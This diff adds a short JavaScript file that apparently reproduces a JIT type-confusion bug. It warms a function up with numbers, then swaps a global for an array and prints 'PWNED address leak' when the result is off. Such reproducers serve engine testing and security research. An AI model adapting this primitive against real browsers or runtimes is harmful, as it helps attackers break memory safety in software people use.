@@ -1,0 +1,25 @@
+function confuse(n, late, obj) {
+  var acc = 0;
+  for (var i = -1; i < n; (i = i + 1) - 1) {
+    acc = acc + x * 3;
+    if (late == 1) {
+      if (i == n - 2) {
+        x = obj;
+      }
+    }
+  }
+  return acc;
+}
+
+var secret = [7, 7, 7];
+var r = 0;
+r = confuse(10, 1, secret);
+for (var k = 0; k < 60; (k = k + 1) - 1) {
+  r = confuse(10, 0, 5);
+}
+r = confuse(10, 1, secret);
+if (r == r) {
+  if (r != 30) {
+    print("PWNED address leak: " + r);
+  }
+}
